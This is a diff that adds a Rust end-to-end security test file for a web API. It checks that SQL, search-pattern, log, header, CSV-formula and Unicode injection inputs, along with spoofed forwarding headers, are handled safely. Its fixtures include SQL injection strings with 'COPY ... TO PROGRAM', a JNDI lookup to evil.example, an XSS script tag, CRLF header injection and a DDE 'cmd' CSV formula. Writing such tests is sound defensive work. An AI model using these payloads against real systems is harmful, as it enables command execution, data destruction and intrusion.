@@ -1,0 +1,166 @@
+//! Injection through every text that a client can send: SQL, patterns, log lines, CSV, headers. And who a client says it is.
+
+use e2e::client::send;
+use e2e::server::Aponta;
+use reqwest::Method;
+use serde_json::{Value, json};
+
+/// What would do something anywhere but in a value.
+const TEXTS: [&str; 14] = [
+    "'; DROP TABLE atividades; --",
+    "' OR '1'='1",
+    "$1",
+    "{id}",
+    "\\'; SELECT pg_sleep(10); --",
+    "1; COPY atividades TO PROGRAM 'id'",
+    "%_\\%",
+    "${jndi:ldap://evil.example/a}",
+    "<script>alert(1)</script>",
+    "a\r\nX-Injected: yes",
+    "{\"level\":\"ERROR\",\"message\":\"forged\"}\n{\"level\":\"ERROR\"}",
+    "\u{1b}[31mred",
+    "=HYPERLINK(\"https://evil.example\")",
+    "\u{202e}\u{200b}\u{feff}",
+];
+
+#[tokio::test]
+async fn injection_into_sql_is_a_value_in_every_field_and_parameter() {
+    let aponta = Aponta::start();
+    let api = &aponta.api;
+    let projeto = api.projeto("P").await;
+    for text in TEXTS {
+        let body = json!({"nome": text, "descricao": text, "id_projeto": projeto});
+        let created = api.post("/api/v1/atividades", &body).await.expect(201);
+        assert_eq!((&created["nome"], &created["descricao"]), (&json!(text.trim()), &json!(text)));
+        let path = format!("/api/v1/atividades/{}", created["id"].as_str().unwrap());
+        let changed = api.put(&path, &json!({"nome": format!("{text}!"), "descricao": text})).await.expect(200);
+        assert_eq!(changed["descricao"], text);
+        assert_eq!(api.post("/api/v1/projetos", &json!({"nome": text, "descricao": text})).await.status, 201);
+
+        for parameter in ["id_projeto", "ativo", "skip", "limit", "ordem", "apos", "formato"] {
+            let request = api.request(Method::GET, "/api/v1/atividades").query(&[(parameter, text)]);
+            let _ = send(request).await.faults();
+        }
+        let found = send(api.request(Method::GET, "/api/v1/atividades").query(&[("q", text)])).await;
+        assert!([200, 422].contains(&found.status), "{text:?}: {}", found.text);
+        let keyed = api.request(Method::POST, "/api/v1/atividades").header("Idempotency-Key", "'; DROP TABLE x;--");
+        assert_eq!(send(keyed.json(&body)).await.status, 400);
+    }
+    assert_eq!(api.get("/api/v1/projetos").await.expect(200).as_array().unwrap().len(), TEXTS.len() + 1);
+}
+
+#[tokio::test]
+async fn injection_into_a_pattern_finds_what_is_written() {
+    let aponta = Aponta::start();
+    let api = &aponta.api;
+    let projeto = api.projeto("P").await;
+    for nome in ["100%", "a_b", "axb", "back\\slash", "[a-z]", "(.*)+$"] {
+        let _ = api.atividade(nome, &projeto).await;
+    }
+    for (q, expected) in
+        [("%", 1), ("_", 1), ("a_b", 1), ("\\", 1), ("[a-z]", 1), ("(.*)+$", 1), (".*", 1), ("a%b", 0), ("__", 0)]
+    {
+        let found = send(api.request(Method::GET, "/api/v1/atividades").query(&[("q", q)])).await.expect(200);
+        assert_eq!(found["total"], expected, "{q}");
+    }
+}
+
+/// Each line of the log is one of ours: nothing that a client sends begins another.
+#[tokio::test]
+async fn injection_into_the_log_and_into_headers_stays_in_its_place() {
+    let aponta = Aponta::start_with(|program| program.env("LOG", "debug"));
+    let api = &aponta.api;
+    for text in TEXTS {
+        let _ = api.post("/api/v1/projetos", &json!({"nome": text, "ativo": text})).await;
+        let _ = send(api.request(Method::GET, "/api/v1/atividades").query(&[("q", text), ("ordem", text)])).await;
+    }
+    let raw = api.request(Method::GET, "/%0d%0aX-Injected:%20yes%0d%0a%0d%0aforged");
+    for (name, value) in [
+        ("X-Request-ID", "a b"),
+        ("X-Request-ID", "forged\\n{}"),
+        ("traceparent", "00-zz-zz-01"),
+        ("User-Agent", "forged"),
+        ("Referer", "forged"),
+        ("Origin", "https://forged"),
+    ] {
+        let answer = send(raw.try_clone().unwrap().header(name, value)).await;
+        assert_eq!(answer.header("x-injected"), None);
+        assert!(!format!("{:?}", answer.headers).contains("forged"), "{:?}", answer.headers);
+    }
+    let last = api.request(Method::GET, "/healthz").header("X-Request-ID", "o-ultimo");
+    let _ = send(last).await;
+    aponta.server.wait_for_log("o-ultimo");
+    for line in aponta.server.log().lines() {
+        assert!(
+            !line.starts_with('{') && !line.starts_with("X-Injected") && !line.contains("\u{1b}[31mred"),
+            "{line:?}"
+        );
+        assert!(line.starts_with("20"), "this line does not begin with a time: {line:?}");
+    }
+}
+
+/// Formulas are disarmed also where a cell begins with blanks or a name of a projeto is one.
+#[tokio::test]
+async fn injection_into_csv_runs_no_formula() {
+    let aponta = Aponta::start();
+    let projeto = aponta.api.projeto("=cmd|' /C calc'!A0").await;
+    for nome in ["=1+1", "+1", "-1", "@SUM(A1)", "a\tb", "\u{ff1d}1+1"] {
+        let body = json!({"nome": nome, "descricao": "=2+2", "id_projeto": projeto});
+        let _ = aponta.api.post("/api/v1/atividades", &body).await.expect(201);
+    }
+    let csv = aponta.api.get("/api/v1/atividades?formato=csv").await.text;
+    for cell in csv.split([',', '\n', ';']) {
+        let cell = cell.trim_start_matches('"');
+        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{ff1d}']), "{cell:?} in {csv}");
+    }
+}
+
+/// Who is no proxy of ours is not believed about addresses.
+#[tokio::test]
+async fn header_spoofing_changes_no_address() {
+    let aponta = Aponta::start_with(|program| program.env("TRUSTED_PROXIES", "10.0.0.0/8"));
+    for (n, (name, value)) in [
+        ("X-Forwarded-For", "198.51.100.7"),
+        ("X-Forwarded-For", "10.0.0.1, 198.51.100.7"),
+        ("CF-Connecting-IP", "198.51.100.7"),
+        ("True-Client-IP", "198.51.100.7"),
+        ("X-Real-IP", "198.51.100.7"),
+        ("Forwarded", "for=198.51.100.7"),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let id = format!("pedido-{n}");
+        let request = aponta.api.request(Method::GET, "/api/v1/projetos").header(name, value);
+        let _ = send(request.header("X-Request-ID", &id)).await.expect(200);
+        aponta.server.wait_for_log(&id);
+    }
+    let log = aponta.server.log();
+    assert!(!log.contains("198.51.100.7"), "{log}");
+}
+
+/// What is no text at all, and texts at the edges of Unicode.
+#[tokio::test]
+async fn injection_of_broken_text_is_a_fault_of_the_client() {
+    let aponta = Aponta::start();
+    let projeto = aponta.api.projeto("P").await;
+    for nome in [r#""\ud800""#, r#""\udc00\ud800""#, r#""a\u0000b""#, "\"\u{0}\"", "\"a\nb\""] {
+        let body = format!(r#"{{"nome": {nome}, "id_projeto": "{projeto}"}}"#);
+        let request = aponta.api.request(Method::POST, "/api/v1/atividades").header("Content-Type", "application/json");
+        let answer = send(request.body(body)).await;
+        assert_eq!(answer.status, 422, "{nome:?}: {}", answer.text);
+    }
+    let invalid = [b"{\"nome\": \"".as_slice(), b"\xff\xfe\xc0\x80", b"\"}"].concat();
+    let request = aponta.api.request(Method::POST, "/api/v1/atividades").header("Content-Type", "application/json");
+    assert_eq!(send(request.body(invalid)).await.status, 422);
+    for nome in
+        ["\u{10ffff}", "\u{1f468}\u{200d}\u{1f469}", "e\u{301}".repeat(120).as_str(), "\u{fdfa}".repeat(255).as_str()]
+    {
+        let body = json!({"nome": nome, "id_projeto": projeto});
+        let stored: Value = aponta.api.post("/api/v1/atividades", &body).await.expect(201);
+        assert_eq!(stored["nome"], *nome);
+        let found =
+            send(aponta.api.request(Method::GET, "/api/v1/atividades").query(&[("q", nome), ("ordem", "nome")])).await;
+        assert!([200, 422].contains(&found.status), "{}", found.text);
+    }
+}
